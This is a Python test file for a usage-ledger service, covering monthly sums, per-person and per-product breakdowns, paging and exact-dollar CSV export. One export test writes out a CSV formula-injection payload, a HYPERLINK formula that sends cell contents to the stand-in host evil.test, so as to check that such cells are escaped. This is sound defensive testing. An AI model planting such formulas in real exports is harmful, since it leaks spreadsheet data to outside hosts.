"""The books: every sum is the ledger's, to the last millionth, and nobody sees another's."""

import csv
import io
from collections import Counter
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as some

from core.bootstrap import Services
from core.domain.accounts import Actor
from core.domain.jobs import CallState
from core.domain.products import ProductDraft
from core.domain.usage import OTHERS, UsageBy, UsageFilter, UsageRow
from core.errors import InvalidInputError
from core.services.ledger_csv import COLUMNS, dollars, harmless
from core.services.usage import UsageService
from core.unit_of_work import Database
from db.engine import build_engine
from tests.support.ledger import COST, NOON, PRICE, Line, forget_lines, write_lines

NOVEMBER = UsageFilter.month(NOON.date())
FIRST = datetime(2026, 11, 1, tzinfo=UTC)
DAY_US = 24 * 3600 * 10**6
PARTITIONS: tuple[UsageBy, ...] = ("day", "person", "product", "image_model")

ledgers = some.lists(
    some.builds(
        Line,
        product_id=some.integers(0, 2),
        at=some.one_of(
            some.sampled_from([FIRST, FIRST - timedelta(microseconds=1), NOVEMBER.ends]),
            some.integers(-2 * DAY_US, 32 * DAY_US).map(
                lambda us: FIRST + timedelta(microseconds=us)
            ),
        ),
        person_id=some.integers(0, 2),
        cost_micros=some.integers(0, 10**13),
        estimate_micros=some.integers(0, 10**13),
        state=some.sampled_from(CallState),
        image_model=some.sampled_from(["compositor", "gemini-a", "gemini-b"]),
    ),
    max_size=12,
)


def product(services: Services, actor: Actor, sku: str = "OAK-CHAIR-1") -> int:
    return services.products.create(actor, ProductDraft("Oak chair", sku)).id


def figures(*rows: UsageRow) -> tuple[int, ...]:
    names = ("calls", "pictures", "unknown", "under_way", "estimate_micros", "cost_micros")
    return tuple(sum(getattr(row, name) for row in rows) for name in names)


def costs(rows: tuple[UsageRow, ...]) -> dict[str, int]:
    return {row.label: row.cost_micros for row in rows}


def exported(service: UsageService, actor: Actor) -> list[dict[str, str]]:
    text = b"".join(service.export(actor, NOVEMBER)).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


class TestUsageFilter:
    def test_is_a_whole_month_from_its_first_moment_to_the_next_ones(self) -> None:
        december = UsageFilter.month(date(2026, 12, 31))

        assert (december.since, december.until) == (date(2026, 12, 1), date(2026, 12, 31))
        assert (december.begins, december.ends) == (
            datetime(2026, 12, 1, tzinfo=UTC),
            datetime(2027, 1, 1, tzinfo=UTC),
        )

    @pytest.mark.parametrize(
        ("since", "until", "why"),
        [
            (date(2026, 11, 2), date(2026, 11, 1), "must not be after"),
            (date(2025, 1, 1), date(2026, 1, 2), "a year at most"),
            (date(1999, 12, 31), date(2000, 1, 2), "between 2000 and 2999"),
            (date(9999, 12, 1), date(9999, 12, 31), "between 2000 and 2999"),
        ],
    )
    def test_says_what_is_wrong_with_a_span(self, since: date, until: date, why: str) -> None:
        with pytest.raises(InvalidInputError, match=why):
            UsageFilter(since, until)

    def test_takes_a_whole_leap_year(self) -> None:
        assert UsageFilter(date(2028, 1, 1), date(2028, 12, 31)).days == 366


class TestSums:
    @pytest.mark.slow
    def test_add_up_to_the_ledgers_own_whatever_is_in_it(
        self, services: Services, actor: Actor, other_actor: Actor
    ) -> None:
        products = [product(services, actor, f"CHAIR-{number}") for number in range(3)]
        people = [actor.user_id, other_actor.user_id, None]

        # A failing ledger is short as it is; making it shorter would take minutes.
        @settings(
            max_examples=30,
            deadline=None,
            derandomize=True,
            phases=[Phase.generate],
            suppress_health_check=list(HealthCheck),
        )
        @given(ledgers)
        def check(drawn: list[Line]) -> None:
            lines = [
                replace(
                    line,
                    product_id=products[line.product_id],
                    person_id=people[line.person_id or 0],
                )
                for line in drawn
            ]
            forget_lines(services, actor)
            write_lines(services, actor, lines)
            meant = [line for line in lines if FIRST <= line.at < NOVEMBER.ends]

            total = services.usage.total(actor, NOVEMBER)

            assert figures(total) == (
                len(meant),
                sum(line.state is CallState.OK for line in meant),
                sum(line.state is CallState.UNKNOWN for line in meant),
                sum(line.state is CallState.INTENT for line in meant),
                sum(
                    line.estimate_micros
                    for line in meant
                    if line.cost_micros or line.state not in (CallState.REFUSED, CallState.FAILED)
                ),
                sum(line.cost_micros for line in meant),
            )
            for by in PARTITIONS:
                assert figures(*services.usage.rows(actor, by, NOVEMBER)) == figures(total)
            with services.parts.database.read() as work:
                for top in (1, 2):
                    few = work.usage.groups(actor.workspace_id, "product", NOVEMBER, top=top)
                    assert figures(*few) == figures(total)
                    assert len(few) <= top + 1
            sold = exported(services.usage, actor)
            assert sum(Decimal(line["cost_usd"]) for line in sold) * 10**6 == total.cost_micros

        check()

    def test_expect_nothing_of_a_call_that_failed_for_free(
        self, services: Services, actor: Actor
    ) -> None:
        chair = product(services, actor)
        busy = Line(chair, state=CallState.FAILED, cost_micros=0, failure_code="rate")
        open_call = Line(chair, state=CallState.INTENT, cost_micros=0)
        write_lines(services, actor, [busy, busy, open_call, Line(chair)])

        total = services.usage.total(actor, NOVEMBER)

        assert total.estimate_micros == 2 * PRICE
        assert (total.calls, total.empty, total.under_way) == (4, 2, 1)

    def test_are_zero_without_a_call(self, services: Services, actor: Actor) -> None:
        assert figures(services.usage.total(actor, NOVEMBER)) == (0, 0, 0, 0, 0, 0)
        for by in (*PARTITIONS, "collection"):
            assert services.usage.rows(actor, by, NOVEMBER) == ()
        assert services.usage.first_day(actor) is None

    def test_are_the_workspaces_own(
        self, services: Services, actor: Actor, other_actor: Actor
    ) -> None:
        theirs = product(services, other_actor)
        services.collections.add_products(
            other_actor, services.collections.create(other_actor, "Spring").id, [theirs]
        )
        write_lines(services, other_actor, [Line(theirs, person_id=actor.user_id)])

        assert services.usage.total(actor, NOVEMBER).calls == 0
        assert services.usage.lines(actor, NOVEMBER).items == ()
        assert exported(services.usage, actor) == []
        assert services.usage.first_day(actor) is None
        for by in (*PARTITIONS, "collection"):
            assert services.usage.rows(actor, by, NOVEMBER) == ()


class TestRows:
    def test_puts_each_call_on_its_day_in_utc_wherever_the_server_is(
        self,
        services: Services,
        actor: Actor,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        chair = product(services, actor)
        east = timezone(timedelta(hours=13))
        write_lines(
            services,
            actor,
            [
                Line(chair, at=datetime(2026, 11, 2, 0, 30, tzinfo=east)),
                Line(chair, at=datetime(2026, 11, 2, 23, 59, 59, 999999, tzinfo=UTC)),
                Line(chair, at=datetime(2026, 11, 3, tzinfo=UTC)),
            ],
        )
        monkeypatch.setenv("PGTZ", "Pacific/Auckland")  # what new connections to PostgreSQL ask for
        database = Database(build_engine(services.parts.settings.sqlalchemy_url))

        days = UsageService(database).rows(actor, "day", NOVEMBER)

        database.dispose()
        assert [day.key for day in days] == ["2026-11-01", "2026-11-02", "2026-11-03"]
        assert services.usage.first_day(actor) == date(2026, 11, 1)

    def test_names_people_and_models_the_dearest_first(
        self, services: Services, actor: Actor, other_actor: Actor
    ) -> None:
        chair = product(services, actor)
        write_lines(
            services,
            actor,
            [
                Line(chair, person_id=actor.user_id, cost_micros=2, image_model="compositor"),
                Line(chair, person_id=other_actor.user_id, cost_micros=5),
                Line(chair, person_id=None, cost_micros=3),
            ],
        )

        people = services.usage.rows(actor, "person", NOVEMBER)
        models = services.usage.rows(actor, "image_model", NOVEMBER)

        assert list(costs(people).items()) == [("Ben", 5), ("Somebody who left", 3), ("Ann", 2)]
        assert [row.key for row in people] == [str(other_actor.user_id), "", str(actor.user_id)]
        assert list(costs(models).items()) == [("fake", 8), ("compositor", 2)]

    def test_counts_a_product_in_each_of_its_collections(
        self, services: Services, actor: Actor
    ) -> None:
        chair, lamp, table = (product(services, actor, sku) for sku in ("C", "L", "T"))
        collections = services.collections
        spring, autumn, old = (collections.create(actor, n).id for n in ("Spring", "Autumn", "Old"))
        collections.add_products(actor, spring, [chair, lamp])
        collections.add_products(actor, autumn, [chair])
        collections.add_products(actor, old, [table])
        collections.delete(actor, old)
        write_lines(
            services,
            actor,
            [Line(chair, cost_micros=10), Line(lamp, cost_micros=2), Line(table, cost_micros=1)],
        )

        rows = services.usage.rows(actor, "collection", NOVEMBER)

        assert costs(rows) == {"Spring": 12, "Autumn": 10, "In no collection": 1}
        assert services.usage.total(actor, NOVEMBER).cost_micros == 13

    def test_sums_what_is_beyond_the_dearest_fifty(self, services: Services, actor: Actor) -> None:
        ids = [product(services, actor, f"CHAIR-{number:02}") for number in range(53)]
        write_lines(
            services,
            actor,
            [Line(one, cost_micros=100 + number) for number, one in enumerate(ids)],
        )

        rows = services.usage.rows(actor, "product", NOVEMBER)

        assert len(rows) == 51
        assert (rows[0].label, rows[0].detail) == ("Oak chair", "CHAIR-52")
        assert rows[-1] == UsageRow(
            OTHERS, "3 more", calls=3, pictures=3, unknown=0,
            estimate_micros=3 * PRICE, cost_micros=100 + 101 + 102, picture_micros=303,
        )  # fmt: skip


class TestLines:
    def test_are_all_there_once_the_newest_first_page_by_page(
        self, services: Services, actor: Actor
    ) -> None:
        chair = product(services, actor)
        moments = [NOON + timedelta(minutes=number // 2) for number in range(7)]
        jobs = write_lines(services, actor, [Line(chair, at=at) for at in moments])

        first = services.usage.lines(actor, NOVEMBER, limit=3)
        second = services.usage.lines(actor, NOVEMBER, after=first.next, limit=3)
        third = services.usage.lines(actor, NOVEMBER, after=second.next, limit=3)

        shown = [line for page in (first, second, third) for line in page.items]
        assert [line.job_id for line in shown] == jobs[::-1]
        assert (first.total, third.next) == (7, None)

    def test_say_what_happened(self, services: Services, actor: Actor) -> None:
        chair = product(services, actor)
        lost = Line(chair, person_id=actor.user_id, state=CallState.UNKNOWN, failure_code="unknown")
        [job] = write_lines(services, actor, [lost])

        [line] = services.usage.lines(actor, NOVEMBER).items

        assert (line.job_id, line.product_name, line.sku) == (job, "Oak chair", "OAK-CHAIR-1")
        assert (line.person, line.image_model) == ("Ann", "fake")
        assert (line.state, line.failure_code) == (CallState.UNKNOWN, "unknown")
        assert (line.estimate_micros, line.cost_micros) == (PRICE, COST)
        assert (line.at, line.finished_at) == (NOON, NOON + timedelta(seconds=9))
        assert (line.image_tokens, line.model_version, line.response_id) == (1290, "fake-1", "r-1")


class TestExport:
    def test_has_a_line_for_each_call_with_exact_amounts_and_moments(
        self, services: Services, actor: Actor
    ) -> None:
        chair = product(services, actor)
        [job] = write_lines(services, actor, [Line(chair, person_id=actor.user_id)])

        [row] = exported(services.usage, actor)

        assert tuple(row) == COLUMNS
        assert (row["started_at"], row["finished_at"]) == (
            "2026-11-25T12:00:00Z",
            "2026-11-25T12:00:09Z",
        )
        assert (row["cost_usd"], row["estimate_usd"]) == ("0.039000", "0.040000")
        assert (row["job_id"], row["sku"], row["person"]) == (str(job), "OAK-CHAIR-1", "Ann")
        assert (row["state"], row["image_tokens"]) == ("ok", "1290")

    def test_begins_with_the_mark_by_which_excel_knows_utf_8(
        self, services: Services, actor: Actor
    ) -> None:
        [only] = services.usage.export(actor, NOVEMBER)

        assert only == b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n"

    @pytest.mark.parametrize("batch", [1, 2, 3, 4])
    def test_loses_and_repeats_nothing_between_its_pieces(
        self, services: Services, actor: Actor, batch: int
    ) -> None:
        chair = product(services, actor)
        at_once = [Line(chair, at=NOON) for _ in range(3)]
        later = [Line(chair, at=NOON + timedelta(microseconds=1)) for _ in range(3)]
        jobs = write_lines(services, actor, [*at_once, *later])
        service = UsageService(services.parts.database, batch=batch)

        rows = exported(service, actor)

        assert Counter(row["job_id"] for row in rows) == Counter(map(str, jobs))
        assert {row["job_id"] for row in rows[:3]} == {str(job) for job in jobs[:3]}

    def test_holds_up_nobody_while_it_is_read(self, services: Services, actor: Actor) -> None:
        chair = product(services, actor)
        write_lines(services, actor, [Line(chair), Line(chair)])
        pieces = UsageService(services.parts.database, batch=1).export(actor, NOVEMBER)

        next(pieces)
        product(services, actor, "LAMP-1")

        assert b"OAK-CHAIR-1" in next(pieces)

    def test_gives_spreadsheets_no_formula_of_peoples_words(
        self, services: Services, actor: Actor
    ) -> None:
        evil = ProductDraft('=HYPERLINK("http://evil.test?x="&A1,"x")', "@SUM(1+1)")
        chair = services.products.create(actor, evil)
        services.accounts.rename(actor, "-2+3, or; =1")
        write_lines(services, actor, [Line(chair.id, person_id=actor.user_id)])

        [row] = exported(services.usage, actor)

        assert row["product"] == "'" + evil.name
        assert row["sku"] == "'@SUM(1+1)"
        assert row["person"] == "'-2+3, or; '=1"


class TestHarmless:
    @pytest.mark.parametrize("sign", [*"=+-@", *"＝＋－＠", "\t", "\r", "\n"])  # noqa: RUF001 - the full-width twins are meant
    def test_marks_whatever_begins_a_formula_somewhere(self, sign: str) -> None:
        assert harmless(f"{sign}1").startswith("'")
        assert harmless(f"  {sign}1").strip().startswith("'") or sign.isspace()

    @pytest.mark.parametrize("text", ["Oak chair", "20 - 30 cm", "a=b", "Stühle & Tische", ""])
    def test_leaves_everything_else_as_it_is(self, text: str) -> None:
        assert harmless(text) == text

    @given(some.text(alphabet="=+-@＝＋－＠;, \t\r\n\u200b\u00a0'\"aé1", max_size=12))  # noqa: RUF001 - likewise
    def test_leaves_no_cell_that_could_be_run_whichever_sign_parts_the_columns(
        self, text: str
    ) -> None:
        cells = harmless(text).split(";")

        assert not [one for one in cells if one.strip(" \u200b\u00a0")[:1] in set("=+-@＝＋－＠")]  # noqa: RUF001 - likewise
        assert not set("\t\r\n") & set(harmless(text))


class TestDollars:
    @given(some.integers(-(10**18), 10**18))
    def test_are_exact_to_the_last_millionth(self, micros: int) -> None:
        assert Decimal(dollars(micros)) * 10**6 == micros
        assert dollars(micros).partition(".")[2].isdecimal()
        assert len(dollars(micros).partition(".")[2]) == 6
